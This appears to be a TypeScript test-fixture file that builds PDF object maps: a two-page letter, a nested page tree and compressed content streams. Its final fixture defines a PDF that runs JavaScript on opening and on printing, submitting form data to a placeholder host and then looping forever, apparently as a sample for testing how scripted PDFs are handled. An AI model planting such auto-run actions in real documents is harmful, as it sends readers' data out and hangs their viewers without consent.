import { deflateSync } from 'node:zlib';
import type { PdfObject, PdfObjects } from './write-pdf.js';

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
export const wordsOf = (text: string) => latin(`BT /F1 18 Tf 72 760 Td (${text}) Tj ET`);
const plain = (text: string): PdfObject => ({ entries: '', bytes: wordsOf(text) });

const page = (contents: number, own = '/MediaBox [0 0 595 842] /Resources << /Font << /F1 7 0 R >> >>') =>
  `<< /Type /Page /Parent 2 0 R ${own} /Contents ${contents} 0 R >>`;

/** Numbers of those that may lie in an object stream. */
export const PACKABLE = [1, 2, 3, 4, 7];

/** A letter of two pages, with some of its objects otherwise. */
export const letterObjects = (changes: Readonly<Record<number, PdfObject>> = {}): PdfObjects =>
  new Map<number, PdfObject>([
    [1, '<< /Type /Catalog /Pages 2 0 R >>'],
    [2, '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>'],
    [3, page(5)],
    [4, page(6)],
    [5, plain('Surat Permohonan')],
    [6, plain('Lampiran')],
    [7, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    ...Object.entries(changes).map(([number, object]) => [Number(number), object] as const),
  ]);

/** Pages in a tree of three levels, which inherit size and fonts from its root. */
export const nestedPages = (): PdfObjects =>
  letterObjects({
    2: '<< /Type /Pages /Kids [8 0 R] /Count 2 /MediaBox [0 0 595 842] /Resources << /Font << /F1 7 0 R >> >> >>',
    3: '<< /Type /Page /Parent 9 0 R /Contents 5 0 R >>',
    4: '<< /Type /Page /Parent 9 0 R /Contents 6 0 R >>',
    8: '<< /Type /Pages /Parent 2 0 R /Kids [9 0 R] /Count 2 >>',
    9: '<< /Type /Pages /Parent 8 0 R /Kids [3 0 R 4 0 R] /Count 2 >>',
  });

/** Contents that were packed, the second ones twice. */
export const packedContents = (): PdfObjects => {
  const [first, second] = [deflateSync(wordsOf('Surat')), deflateSync(wordsOf('Lampiran'))];
  return letterObjects({
    5: { entries: '/Filter /FlateDecode', bytes: first },
    6: {
      entries: '/Filter [/ASCIIHexDecode /FlateDecode]',
      bytes: latin(`${second.toString('hex')}>`),
    },
  });
};

/** Runs a script when it is opened, and another when it is printed: readers that know no scripts show it all the same. */
export const scripted = (): PdfObjects =>
  letterObjects({
    1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R /AA << /WP 8 0 R >> /Names << /JavaScript << /Names [(a) 8 0 R] >> >> >>',
    8: '<< /Type /Action /S /JavaScript /JS (this.submitForm\\("https://example.com"\\); while\\(true\\);) >>',
  });
